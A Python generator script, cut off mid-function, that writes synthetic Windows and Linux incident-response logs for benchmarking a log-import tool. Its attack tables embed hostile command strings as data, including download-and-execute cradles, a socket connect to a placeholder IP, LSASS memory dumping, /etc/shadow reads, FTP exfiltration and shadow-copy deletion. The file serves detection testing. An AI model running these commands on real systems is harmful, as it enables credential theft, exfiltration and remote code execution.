#!/usr/bin/env python3
"""Deterministic generator of realistic synthetic incident-response telemetry.

Writes the same kind of case in each format `casetrail import` reads:

  windows-json  flat Windows event JSON lines (NXLog / Logstash shape, as the
                OTRF datasets): Sysmon 1, 3, 11, 13 and Security 4624, 4688
  ecs           Elastic Common Schema NDJSON (Winlogbeat shape) of the same events
  windows-xml   Windows event XML, one <Event> per line (wevtutil qe /f:xml shape)
  auditd        raw Linux audit.log (SYSCALL + EXECVE + CWD + PATH + PROCTITLE per
                execution, USER_LOGIN per logon), with hex-encoded and split arguments
  csv           casetrail's own CSV columns (time, host, kind, account, image, ...)

The case: hundreds of hosts and accounts (scaled with the size), logon sessions
(a 4624 / USER_LOGIN opens each session before its process activity), process
trees with PIDs reused on each host, benign admin noise, and bursts of attacker
activity (several techniques per tactic, tagged the way Sysmon configurations
tag them: RuleName technique_id=T1059.001,technique_name=PowerShell) including
long base64 PowerShell, quotes, backslashes and non-ASCII paths.

Every record is one line-group written in time order; the output for a given
(seed, size, format) is byte-identical on every run (Python stdlib only, no
clock, no hash randomisation).

Usage:
  gen_case.py --format FMT --size N [--seed S] [--kinds process,...] -o FILE
  gen_case.py --all --sizes 10000,100000 --dir bench/data [--seed S]
      writes DIR/case-N.EXT for every format and size that is missing
"""

import argparse
import base64
import heapq
import json
import os
import random
import re
import sys
from xml.sax.saxutils import escape, quoteattr

FORMATS = {
    "windows-json": "winjson.jsonl",
    "ecs": "ecs.ndjson",
    "windows-xml": "xml",
    "auditd": "audit.log",
    "csv": "csv",
}

BASE_US = 1796025600 * 1000000  # 2026-11-30T08:00:00Z
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
SECURITY_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"

FIRST = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "mallory", "oscar", "peggy", "rupert", "sybil", "trent", "victor", "walter",
         "jürgen", "josé", "zoë", "søren", "李雷", "małgorzata", "ayşe", "øyvind"]
LAST = ["smith", "jones", "miller", "garcia", "müller", "nguyen", "kowalski", "rossi",
        "dubois", "tanaka", "olsen", "fernández"]

# Attacker techniques by tactic: (technique id, name, Windows command templates).
# {u} user, {h} host, {ip} attacker address, {enc} long encoded PowerShell.
ATTACK_WIN = [
    ("execution", "T1059.001", "PowerShell", [
        "powershell.exe -nop -w hidden -enc {enc}",
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')\""]),
    ("execution", "T1059.003", "Windows Command Shell", [
        "cmd.exe /c \"whoami /all > C:\\Users\\Public\\w.txt & type C:\\Users\\Public\\w.txt\""]),
    ("execution", "T1047", "Windows Management Instrumentation", [
        "wmic /node:\"{h2}\" process call create \"cmd.exe /c ipconfig /all\""]),
    ("persistence", "T1547.001", "Registry Run Keys / Startup Folder", [
        "reg.exe add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v Updater /t REG_SZ /d \"C:\\Users\\{u}\\AppData\\Roaming\\upd.exe\" /f"]),
    ("persistence", "T1053.005", "Scheduled Task", [
        "schtasks.exe /create /tn \"\\Microsoft\\Windows\\Update\\Sync\" /tr \"C:\\ProgramData\\sync.exe -s\" /sc minute /mo 30 /ru SYSTEM /f"]),
    ("persistence", "T1136.001", "Local Account", [
        "net.exe user support_{n} P@ssw0rd!{n} /add"]),
    ("privilege-escalation", "T1548.002", "Bypass User Account Control", [
        "C:\\Windows\\System32\\fodhelper.exe"]),
    ("defense-evasion", "T1218.005", "Mshta", [
        "mshta  vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -noexit -command Get-Service\"\":close\")"]),
    ("defense-evasion", "T1218.011", "Rundll32", [
        "rundll32.exe C:\\Users\\{u}\\AppData\\Local\\Temp\\x{n}.dll,DllRegisterServer"]),
    ("defense-evasion", "T1070.001", "Clear Windows Event Logs", [
        "wevtutil.exe cl Security"]),
    ("credential-access", "T1003.001", "LSASS Memory", [
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Users\\Public\\l.dmp full",
        "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp"]),
    ("credential-access", "T1552.001", "Credentials In Files", [
        "findstr.exe /si password *.xml *.ini *.txt *.config"]),
    ("discovery", "T1087.002", "Domain Account", [
        "net.exe group \"Domain Admins\" /domain"]),
    ("discovery", "T1082", "System Information Discovery", ["systeminfo.exe"]),
    ("discovery", "T1018", "Remote System Discovery", ["nltest.exe /dclist:corp.local"]),
    ("lateral-movement", "T1021.002", "SMB/Windows Admin Shares", [
        "cmd.exe /c copy C:\\ProgramData\\sync.exe \\\\{h2}\\C$\\ProgramData\\sync.exe"]),
    ("lateral-movement", "T1021.006", "Windows Remote Management", [
        "powershell.exe -c \"Invoke-Command -ComputerName {h2} -ScriptBlock {{ hostname }}\""]),
    ("collection", "T1560.001", "Archive via Utility", [
        "\"C:\\Program Files\\7-Zip\\7z.exe\" a -tzip -p\"x!{n}\" C:\\Users\\Public\\d.zip \"C:\\Users\\{u}\\Documents\\Überweisungen Q4\\*\""]),
    ("command-and-control", "T1105", "Ingress Tool Transfer", [
        "certutil.exe -urlcache -split -f http://{ip}/p.exe C:\\Users\\Public\\p.exe"]),
    ("exfiltration", "T1048.003", "Exfiltration Over Unencrypted Non-C2 Protocol", [
        "curl.exe -T C:\\Users\\Public\\d.zip ftp://{ip}/drop/"]),
    ("impact", "T1490", "Inhibit System Recovery", [
        "vssadmin.exe delete shadows /all /quiet"]),
]

ADMIN_WIN = [
    "\"C:\\Windows\\system32\\cmd.exe\" ",
    "ipconfig /all",
    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{u}\\Documents\\Budget 2027 – {n}.xlsx\"",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=de --device-scale-factor=1 --num-raster-threads=2 --enable-main-frame-before-activation --renderer-client-id={n} --time-ticks-at-unix-epoch=-1701{n2} --launch-time-ticks={n}{n2} --field-trial-handle={n},i,{n2},262144 --variations-seed-version=20261129-050046.592000 --mojo-platform-channel-handle=4{n} /prefetch:1",
    # Management agents run encoded PowerShell too: long -EncodedCommand lines are not only attackers'.
    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {enc}",
    "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe\" -powershell \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{n}_{n2}.ps1\" \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Results\\{n}.output\" 120 1 0",
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "gpupdate.exe /force",
    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"Get-Service | Where-Object {{ $_.Status -eq 'Running' }} | Select-Object Name\"",
    "sc.exe query wuauserv",
    "notepad.exe \"C:\\Users\\{u}\\Desktop\\Notizen für {u}.txt\"",
    "robocopy.exe \"\\\\fs01\\Share\\Projects\" \"D:\\Backup\\Projects\" /MIR /R:1 /W:1 /NP",
    "C:\\Windows\\System32\\msiexec.exe /i \"C:\\Temp\\agent-{n}.msi\" /qn",
    "tasklist.exe /v /fo csv",
    "\"C:\\Program Files\\Git\\cmd\\git.exe\" commit -m \"fix: handle \\\"quoted\\\" paths in C:\\build\\{n}\"",
]

ATTACK_LINUX = [
    ("execution", "T1059.004", "Unix Shell", ["bash", "-c", "curl -s http://{ip}/i.sh | bash"]),
    ("execution", "T1059.004", "Unix Shell", ["bash", "-c", "echo {enc} | base64 -d | bash"]),
    ("execution", "T1059.006", "Python", ["python3", "-c", "import socket,os;s=socket.socket();s.connect(('{ip}',4444))"]),
    ("persistence", "T1053.003", "Cron", ["crontab", "/tmp/.c"]),
    ("persistence", "T1136.001", "Local Account", ["useradd", "-m", "-s", "/bin/bash", "svc{n}"]),
    ("defense-evasion", "T1027.001", "Binary Padding", ["dd", "if=/dev/zero", "bs=1", "count=1"]),
    ("defense-evasion", "T1222.002", "Linux and Mac File and Directory Permissions Modification", ["chmod", "+x", "/tmp/.x{n}"]),
    ("credential-access", "T1003.008", "/etc/passwd and /etc/shadow", ["cat", "/etc/shadow"]),
    ("discovery", "T1082", "System Information Discovery", ["uname", "-a"]),
    ("discovery", "T1033", "System Owner/User Discovery", ["id"]),
    ("command-and-control", "T1105", "Ingress Tool Transfer", ["wget", "-q", "-O", "/tmp/.x{n}", "http://{ip}/x"]),
    ("exfiltration", "T1048.003", "Exfiltration Over Unencrypted Non-C2 Protocol", ["tar", "czf", "-", "/home/{u}/Dokumente für {u}"]),
]
ADMIN_LINUX = [
    ["ls", "-la", "/var/log"], ["systemctl", "status", "nginx.service"],
    ["grep", "-r", "error", "/var/log/nginx/error.log"], ["apt-get", "install", "-y", "htop"],
    ["ssh", "backup@fs01", "df -h"], ["python3", "/opt/tools/report.py", "--since", "yesterday"],
    ["journalctl", "-u", "sshd", "--since", "-1h"], ["vim", "/etc/nginx/sites-available/default"],
    ["git", "commit", "-m", "update 'config' for {u}"], ["psql", "-c", "SELECT count(*) FROM orders;"],
]


def ps_script(rng, n):
    """A long PowerShell stager, as attackers encode it with -enc (UTF-16LE base64)."""
    body = ["$s='http://203.0.113.%d/%d';" % (rng.randrange(1, 255), n)]
    length = rng.randrange(400, 2400)
    while sum(map(len, body)) < length:
        body.append("$k=[Convert]::FromBase64String('%s');" %
                    base64.b64encode(bytes(rng.randrange(256) for _ in range(48))).decode())
    body.append("IEX([Text.Encoding]::UTF8.GetString($k))")
    return base64.b64encode("".join(body).encode("utf-16-le")).decode()


class Host:
    def __init__(self, rng, index, linux):
        self.linux = linux
        self.name = ("srv-lnx%03d" % index) if linux else ("WS%04d" % index if index % 7 else "SRV%03d" % index)
        self.fqdn = self.name.lower() + ".corp.local"
        self.ip = "10.%d.%d.%d" % (index // 250 % 250, index % 250, rng.randrange(2, 250))
        self.live = set()
        self.pid_pool = list(range(1000, 1000 + 4 * 400, 4)) if not linux else list(range(1200, 1200 + 600))
        self.records = 0
        self.guid_prefix = "%08x" % rng.getrandbits(32)
        self.guids = 0
        self.serial = rng.randrange(1000, 100000)

    def pid(self, rng):
        # A small pool, so PIDs come back on the same host (as they do on Windows).
        while True:
            p = rng.choice(self.pid_pool)
            if p not in self.live:
                return p

    def guid(self):
        self.guids += 1
        g = "%012x" % self.guids
        return "{%s-%s-%s-%s-%s}" % (self.guid_prefix, g[:4], g[4:8], "0700", "0000" + g[8:] + "0000")

    def record_id(self):
        self.records += 1
        return self.records


class Account:
    def __init__(self, rng, index):
        first, last = rng.choice(FIRST), rng.choice(LAST)
        self.user = "%s.%s%d" % (first, last, index) if index % 5 else "adm-%s" % first
        self.domain = "CORP"
        self.sid = "S-1-5-21-3940915590-64593676-1414006259-%d" % (1100 + index)
        self.uid = 1000 + index


class Case:
    """Time-ordered abstract events (dicts), merged from concurrent activities."""

    def __init__(self, size, seed, linux):
        self.rng = random.Random("%d-%d-%s" % (seed, size, linux))
        rng = self.rng
        nhosts = max(12, min(600, size // 1500))
        naccounts = max(16, min(900, size // 1000))
        self.hosts = [Host(rng, i + 1, linux) for i in range(nhosts)]
        self.accounts = [Account(rng, i + 1) for i in range(naccounts)]
        self.size = size
        self.linux = linux
        self.n = 0

    def events(self):
        rng = self.rng
        heap = []
        seq = 0
        clock = BASE_US
        emitted = 0
        running = 0
        while True:  # the writer stops when it has written enough records
            # Keep a handful of activities running at once, so they interleave.
            while running < 12:
                clock += int(rng.expovariate(1 / 4e6))
                attack = rng.random() < 0.04
                gen = (self.attack_burst if attack else self.admin_session)(clock)
                first = next(gen, None)
                if first is not None:
                    heapq.heappush(heap, (first["t"], seq, first, gen))
                    seq += 1
                    running += 1
            t, _, ev, gen = heapq.heappop(heap)
            yield ev
            emitted += 1
            nxt = next(gen, None)
            if nxt is None:
                running -= 1
            else:
                nxt["t"] = max(nxt["t"], t)
                heapq.heappush(heap, (nxt["t"], seq, nxt, gen))
                seq += 1

    def logon(self, t, host, acct, logon_type, src_ip):
        logon_id = "0x%x" % self.rng.randrange(0x10000, 0xfffffff)
        return {"kind": "logon", "t": t, "host": host, "acct": acct, "logon_id": logon_id,
                "logon_type": logon_type, "src_ip": src_ip, "src_port": self.rng.randrange(49152, 65535),
                "pid": 652 if not host.linux else self.rng.randrange(800, 1200)}, logon_id

    def process(self, t, host, acct, logon_id, cmd, parent, tech=None, argv=None):
        rng = self.rng
        n = rng.randrange(1, 100000)
        pid = host.pid(rng)
        host.live.add(pid)
        if host.linux:
            image = "/usr/bin/" + argv[0] if not argv[0].startswith("/") else argv[0]
        else:
            exe = cmd.split("\"")[1] if cmd.startswith("\"") else cmd.split(" ")[0]
            if not exe.lower().endswith(".exe"):
                exe += ".exe"
            image = exe if "\\" in exe else "C:\\Windows\\System32\\" + exe
        ev = {"kind": "process", "t": t, "host": host, "acct": acct, "logon_id": logon_id,
              "pid": pid, "guid": host.guid(), "image": image, "cmd": cmd, "argv": argv,
              "ppid": parent["pid"], "pguid": parent["guid"], "pimage": parent["image"],
              "pcmd": parent["cmd"], "cwd": ("/home/%s" % acct.user) if host.linux else "C:\\Users\\%s\\" % acct.user,
              "integrity": rng.choice(["Medium", "High"]), "tech": tech,
              "hashes": "SHA256=%064X" % rng.getrandbits(256), "pair": rng.random() < 0.35,
              "n": n}
        return ev

    def exited(self, host, ev):
        host.live.discard(ev["pid"])

    def fill(self, template, acct, host):
        rng = self.rng
        return template.format(u=acct.user, h=host.name, h2=rng.choice(self.hosts).name,
                               ip="203.0.113.%d" % rng.randrange(1, 255), n=rng.randrange(1, 99999),
                               n2=rng.randrange(1, 99999),
                               enc=ps_script(rng, rng.randrange(1, 99999)) if "{enc}" in template else "")

    def root(self, host):
        if host.linux:
            return {"pid": 1, "guid": None, "image": "/usr/sbin/sshd", "cmd": "sshd: /usr/sbin/sshd -D"}
        return {"pid": 4120 + 4 * self.rng.randrange(0, 50), "guid": host.guid(),
                "image": "C:\\Windows\\explorer.exe", "cmd": "C:\\Windows\\Explorer.EXE"}

    def side_effects(self, t, proc, attack):
        """Network, file and registry events of a Windows process."""
        rng = self.rng
        host, out = proc["host"], []
        if rng.random() < (0.6 if attack else 0.25):
            dst = "203.0.113.%d" % rng.randrange(1, 255) if attack else "10.0.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
            out.append(dict(proc, kind="network", t=t + rng.randrange(10000, 900000), dst_ip=dst,
                            dst_port=rng.choice([443, 80, 445, 5985, 8443]), src_port=rng.randrange(49152, 65535),
                            dst_host=("cdn%d.example-updates.com" % rng.randrange(99)) if attack else "fs01.corp.local"))
        if rng.random() < 0.3:
            name = rng.choice(["Rechnung_%d.docx", "report-%d.pdf", "~$tmp%d.xlsx", "sync%d.exe", "Überweisung %d.zip"])
            out.append(dict(proc, kind="file", t=t + rng.randrange(10000, 2000000),
                            target="C:\\Users\\%s\\AppData\\Local\\Temp\\%s" % (proc["acct"].user, name % rng.randrange(9999))))
        if rng.random() < (0.4 if attack else 0.15):
            out.append(dict(proc, kind="registry", t=t + rng.randrange(10000, 2000000),
                            key="HKU\\%s\\Software\\Microsoft\\Windows\\CurrentVersion\\%s" % (
                                proc["acct"].sid, "Run\\Updater" if attack else "Explorer\\RecentDocs\\MRU%d" % rng.randrange(20)),
                            details="C:\\ProgramData\\sync.exe -s" if attack else "DWORD (0x%08x)" % rng.randrange(256)))
        return out

    def admin_session(self, t):
        rng = self.rng
        host, acct = rng.choice(self.hosts), rng.choice(self.accounts)
        ev, logon_id = self.logon(t, host, acct, rng.choice([2, 3, 10, 11]) if not host.linux else 0,
                                  "10.0.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)))
        yield ev
        parent = self.root(host)
        procs = []
        for _ in range(rng.randrange(3, 16)):
            t += int(rng.expovariate(1 / 20e6)) + 1000
            if host.linux:
                argv = [a.format(u=acct.user) for a in rng.choice(ADMIN_LINUX)]
                p = self.process(t, host, acct, logon_id, " ".join(argv), parent, argv=argv)
            else:
                p = self.process(t, host, acct, logon_id, self.fill(rng.choice(ADMIN_WIN), acct, host), parent)
            yield p
            procs.append(p)
            if not host.linux:
                for e in self.side_effects(t, p, False):
                    yield e
            if rng.random() < 0.4:  # a child of this process: trees, not flat lists
                parent = p
            if rng.random() < 0.5 and procs:
                self.exited(host, procs.pop(0))
        for p in procs:
            self.exited(host, p)

    def attack_burst(self, t):
        rng = self.rng
        host, acct = rng.choice(self.hosts), rng.choice(self.accounts)
        ev, logon_id = self.logon(t, host, acct, 3 if not host.linux else 0, "198.51.100.%d" % rng.randrange(1, 255))
        yield ev
        parent = self.root(host)
        table = ATTACK_LINUX if host.linux else ATTACK_WIN
        # A burst walks through the kill chain: a few techniques, tactics in order.
        steps = sorted(rng.sample(range(len(table)), rng.randrange(3, 8)))
        for i in steps:
            tactic, tid, tname, tmpl = table[i]
            t += int(rng.expovariate(1 / 3e6)) + 1000
            if host.linux:
                argv = [self.fill(a, acct, host) for a in tmpl]
                p = self.process(t, host, acct, logon_id, " ".join(argv), parent, (tid, tname), argv)
            else:
                p = self.process(t, host, acct, logon_id, self.fill(rng.choice(tmpl), acct, host), parent, (tid, tname))
            yield p
            if not host.linux:
                for e in self.side_effects(t, p, True):
                    yield e
            if rng.random() < 0.6:
                parent = p


# --- time formatting ------------------------------------------------------------

def _civil(us):
    days, rem = divmod(us // 1000000, 86400)
    # Howard Hinnant's days_from_civil inverse (public domain algorithm).
    z = days + 719468
    era = z // 146097
    doe = z - era * 146097
    yoe = (doe - doe // 1460 + doe // 36524 - doe // 146096) // 365
    y = yoe + era * 400
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    d = doy - (153 * mp + 2) // 5 + 1
    m = mp + 3 if mp < 10 else mp - 9
    return y + (m <= 2), m, d, rem // 3600, rem // 60 % 60, rem % 60, us % 1000000


def iso(us, digits=3):
    y, m, d, hh, mm, ss, frac = _civil(us)
    f = ("%06d" % frac)[:digits] if digits <= 6 else "%06d0" % frac
    return "%04d-%02d-%02dT%02d:%02d:%02d.%sZ" % (y, m, d, hh, mm, ss, f)


def sysmon_time(us):
    y, m, d, hh, mm, ss, frac = _civil(us)
    return "%04d-%02d-%02d %02d:%02d:%02d.%03d" % (y, m, d, hh, mm, ss, frac // 1000)


# --- Windows event data (shared by JSON, XML, ECS) ------------------------------

def rule(ev):
    return "technique_id=%s,technique_name=%s" % ev["tech"] if ev.get("tech") else "-"


def windows_events(ev):
    """(channel, event id, EventData as ordered pairs) for one abstract event."""
    h, a = ev["host"], ev["acct"]
    user = "%s\\%s" % (a.domain, a.user)
    k = ev["kind"]
    if k == "logon":
        return [("Security", 4624, [
            ("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", h.name + "$"), ("SubjectDomainName", "CORP"),
            ("SubjectLogonId", "0x3e7"), ("TargetUserSid", a.sid), ("TargetUserName", a.user),
            ("TargetDomainName", a.domain), ("TargetLogonId", ev["logon_id"]), ("LogonType", str(ev["logon_type"])),
            ("LogonProcessName", "User32 " if ev["logon_type"] in (2, 10, 11) else "NtLmSsp "),
            ("AuthenticationPackageName", "Negotiate" if ev["logon_type"] != 3 else "NTLM"),
            ("WorkstationName", h.name), ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
            ("TransmittedServices", "-"), ("LmPackageName", "-"), ("KeyLength", "0"),
            ("ProcessId", "0x28c"), ("ProcessName", "C:\\Windows\\System32\\lsass.exe"),
            ("IpAddress", ev["src_ip"]), ("IpPort", str(ev["src_port"])), ("ImpersonationLevel", "%%1833"),
            ("ElevatedToken", "%%1842")])]
    common = [("RuleName", rule(ev)), ("UtcTime", sysmon_time(ev["t"])), ("ProcessGuid", ev["guid"]),
              ("ProcessId", str(ev["pid"])), ("Image", ev["image"])]
    if k == "process":
        out = [(SYSMON, 1, common + [
            ("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)"), ("Description", ev["image"].rsplit("\\", 1)[-1]),
            ("Product", "Microsoft® Windows® Operating System"), ("Company", "Microsoft Corporation"),
            ("OriginalFileName", ev["image"].rsplit("\\", 1)[-1].upper()), ("CommandLine", ev["cmd"]),
            ("CurrentDirectory", ev["cwd"]), ("User", user), ("LogonGuid", "{39e4a257-f1ac-5f8b-d961-0c0000000000}"),
            ("LogonId", ev["logon_id"]), ("TerminalSessionId", "1"), ("IntegrityLevel", ev["integrity"]),
            ("Hashes", ev["hashes"]), ("ParentProcessGuid", ev["pguid"]), ("ParentProcessId", str(ev["ppid"])),
            ("ParentImage", ev["pimage"]), ("ParentCommandLine", ev["pcmd"]), ("ParentUser", user)])]
        if ev["pair"]:
            out.append(("Security", 4688, [
                ("SubjectUserSid", a.sid), ("SubjectUserName", a.user), ("SubjectDomainName", a.domain),
                ("SubjectLogonId", ev["logon_id"]), ("NewProcessId", "0x%x" % ev["pid"]),
                ("NewProcessName", ev["image"]), ("TokenElevationType", "%%1936"), ("ProcessId", "0x%x" % ev["ppid"]),
                ("CommandLine", ev["cmd"]), ("TargetUserSid", "S-1-0-0"), ("TargetUserName", "-"),
                ("TargetDomainName", "-"), ("TargetLogonId", "0x0"), ("ParentProcessName", ev["pimage"]),
                ("MandatoryLabel", "S-1-16-12288" if ev["integrity"] == "High" else "S-1-16-8192")]))
        return out
    if k == "network":
        return [(SYSMON, 3, common + [
            ("User", user), ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"),
            ("SourceIp", h.ip), ("SourceHostname", h.fqdn), ("SourcePort", str(ev["src_port"])), ("SourcePortName", "-"),
            ("DestinationIsIpv6", "false"), ("DestinationIp", ev["dst_ip"]), ("DestinationHostname", ev["dst_host"]),
            ("DestinationPort", str(ev["dst_port"])), ("DestinationPortName", "https" if ev["dst_port"] == 443 else "-")])]
    if k == "file":
        return [(SYSMON, 11, common + [("TargetFilename", ev["target"]),
                                       ("CreationUtcTime", sysmon_time(ev["t"])), ("User", user)])]
    if k == "registry":
        return [(SYSMON, 13, [("RuleName", rule(ev)), ("EventType", "SetValue")] + common[1:] +
                 [("TargetObject", ev["key"]), ("Details", ev["details"]), ("User", user)])]
    raise ValueError(k)


TITLES = {1: "Process Create:", 3: "Network connection detected:", 11: "File created:",
          13: "Registry value set:", 4624: "An account was successfully logged on.",
          4688: "A new process has been created."}
TASKS = {1: 1, 3: 3, 11: 11, 13: 13, 4624: 12544, 4688: 13312}
SECURITY_TAIL = ("\r\n\r\nToken Elevation Type indicates the type of token that was assigned to the new process "
                 "in accordance with User Account Control policy.")


def message(eid, data):
    body = "\r\n".join("%s: %s" % kv for kv in data)
    if eid in (4624, 4688):
        body = "\r\n".join("\t%s:\t\t%s" % kv for kv in data) + SECURITY_TAIL
    return TITLES[eid] + "\r\n" + body


def out_windows_json(ev, host_seq):
    lines = []
    for channel, eid, data in windows_events(ev):
        t = ev["t"] + (0 if eid != 4688 else 1000)  # Security logs the same process a moment later
        rec = {"@timestamp": iso(t), "TimeCreated": iso(t), "Hostname": ev["host"].name, "EventID": eid,
               "Channel": channel, "SourceName": "Microsoft-Windows-Sysmon" if channel == SYSMON else "Microsoft-Windows-Security-Auditing",
               "ProviderGuid": SYSMON_GUID if channel == SYSMON else SECURITY_GUID, "Level": "4" if channel == SYSMON else "0",
               "Task": str(TASKS[eid]), "Keywords": "0x8000000000000000" if channel == SYSMON else "0x8020000000000000",
               "EventRecordID": ev["host"].record_id()}
        rec.update(data)
        rec["Message"] = message(eid, data)
        lines.append(json.dumps(rec, ensure_ascii=False, separators=(",", ":")))
    return lines


def out_windows_xml(ev, host_seq):
    lines = []
    for channel, eid, data in windows_events(ev):
        t = ev["t"] + (0 if eid != 4688 else 1000)
        sysmon = channel == SYSMON
        items = "".join("<Data Name=%s>%s</Data>" % (quoteattr(k), escape(v)) for k, v in data)
        lines.append(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
            "<Provider Name='%s' Guid='%s'/><EventID>%d</EventID><Version>%d</Version><Level>%s</Level>"
            "<Task>%d</Task><Opcode>0</Opcode><Keywords>%s</Keywords><TimeCreated SystemTime='%s'/>"
            "<EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='%d' ThreadID='%d'/>"
            "<Channel>%s</Channel><Computer>%s</Computer><Security%s/></System><EventData>%s</EventData></Event>" % (
                "Microsoft-Windows-Sysmon" if sysmon else "Microsoft-Windows-Security-Auditing",
                SYSMON_GUID if sysmon else SECURITY_GUID, eid, 5 if sysmon else 2, "4" if sysmon else "0", TASKS[eid],
                "0x8000000000000000" if sysmon else "0x8020000000000000", iso(t, 7), ev["host"].record_id(),
                3012 if sysmon else 652, 4000 + eid % 97, channel, ev["host"].fqdn,
                " UserID='S-1-5-18'" if sysmon else "", items))
    return lines


def out_ecs(ev, host_seq):
    h, a = ev["host"], ev["acct"]
    lines = []
    for channel, eid, data in windows_events(ev):
        d = dict(data)
        t = ev["t"] + (0 if eid != 4688 else 1000)
        rec = {"@timestamp": iso(t, 6),
               "ecs": {"version": "8.11.0"},
               "agent": {"type": "winlogbeat", "version": "8.11.1"},
               "host": {"name": h.fqdn, "hostname": h.name, "os": {"family": "windows", "platform": "windows", "type": "windows"}},
               "winlog": {"channel": channel, "computer_name": h.fqdn, "record_id": h.record_id(), "event_id": str(eid),
                          "provider_name": "Microsoft-Windows-Sysmon" if channel == SYSMON else "Microsoft-Windows-Security-Auditing"},
               "user": {"name": a.user, "domain": a.domain, "id": a.sid}}
        ev_obj = {"code": str(eid), "provider": rec["winlog"]["provider_name"], "kind": "event",
                  "module": "sysmon" if channel == SYSMON else "security"}
        if eid in (1, 4688):
            ev_obj.update(category=["process"], type=["start"], action="Process Create" if eid == 1 else "created-process")
            proc = {"pid": ev["pid"], "executable": ev["image"], "name": ev["image"].rsplit("\\", 1)[-1],
                    "command_line": ev["cmd"], "working_directory": ev["cwd"],
                    "parent": {"pid": ev["ppid"], "executable": ev["pimage"], "command_line": ev["pcmd"],
                               "name": ev["pimage"].rsplit("\\", 1)[-1]}}
            if eid == 1:
                proc["entity_id"] = ev["guid"]
                proc["parent"]["entity_id"] = ev["pguid"]
                proc["hash"] = {"sha256": ev["hashes"][7:].lower()}
            rec["process"] = proc
            rec["winlog"]["logon"] = {"id": ev["logon_id"]}
        elif eid == 4624:
            ev_obj.update(category=["authentication"], type=["start"], action="logged-in", outcome="success")
            rec["source"] = {"ip": ev["src_ip"], "port": ev["src_port"]}
            rec["winlog"]["logon"] = {"id": ev["logon_id"], "type": {2: "Interactive", 3: "Network", 10: "RemoteInteractive",
                                                                      11: "CachedInteractive"}[ev["logon_type"]]}
        else:
            rec["process"] = {"pid": ev["pid"], "entity_id": ev["guid"], "executable": ev["image"],
                              "name": ev["image"].rsplit("\\", 1)[-1]}
            if eid == 3:
                ev_obj.update(category=["network"], type=["connection", "start"], action="Network connection detected")
                rec["source"] = {"ip": h.ip, "port": ev["src_port"], "domain": h.fqdn}
                rec["destination"] = {"ip": ev["dst_ip"], "port": ev["dst_port"], "domain": ev["dst_host"]}
                rec["network"] = {"transport": "tcp", "direction": "egress"}
            elif eid == 11:
                ev_obj.update(category=["file"], type=["creation"], action="File created")
                rec["file"] = {"path": ev["target"], "name": ev["target"].rsplit("\\", 1)[-1]}
            elif eid == 13:
                ev_obj.update(category=["registry"], type=["change"], action="Registry value set")
                rec["registry"] = {"path": ev["key"], "data": {"strings": [ev["details"]]}}
        if ev.get("tech"):
            tid, tname = ev["tech"]
            tech = {"id": [tid.split(".")[0]], "name": [tname]}
            if "." in tid:
                tech["subtechnique"] = {"id": [tid], "name": [tname]}
            rec["threat"] = {"framework": "MITRE ATT&CK", "technique": tech}
            rec["rule"] = {"name": rule(ev)}
        rec["event"] = ev_obj
        rec["message"] = message(eid, data)
        lines.append(json.dumps(rec, ensure_ascii=False, separators=(",", ":")))
    return lines


# --- auditd ----------------------------------------------------------------------

def audit_value(arg):
    """auditd writes an argument quoted when it is plain printable ASCII, else in hex."""
    if arg and all(0x21 <= ord(c) < 0x7f and c != '"' for c in arg):
        return '"%s"' % arg
    return arg.encode("utf-8").hex().upper()


def out_auditd(ev, host_seq):
    h, a = ev["host"], ev["acct"]
    us = ev["t"]
    h.serial += 1
    stamp = "msg=audit(%d.%03d:%d):" % (us // 1000000, us % 1000000 // 1000, h.serial)
    node = "node=%s " % h.name
    if ev["kind"] == "logon":
        return [node + "type=USER_LOGIN %s pid=%d uid=0 auid=%d ses=%d subj=unconfined msg='op=login id=%d "
                "exe=\"/usr/sbin/sshd\" hostname=%s addr=%s terminal=ssh res=success'" % (
                    stamp, ev["pid"], a.uid, int(ev["logon_id"], 16) % 100000, a.uid, ev["src_ip"], ev["src_ip"])]
    argv = ev["argv"]
    exe = ev["image"]
    lines = [node + "type=SYSCALL %s arch=c000003e syscall=59 success=yes exit=0 a0=55d1e0a2c0 a1=55d1e0a3f0 "
             "a2=55d1e0a410 a3=8 items=2 ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d "
             "sgid=%d fsgid=%d tty=pts0 ses=%d comm=%s exe=\"%s\" subj=unconfined key=\"exec\"" % (
                 stamp, ev["ppid"], ev["pid"], a.uid, a.uid, a.uid, a.uid, a.uid, a.uid, a.uid, a.uid, a.uid,
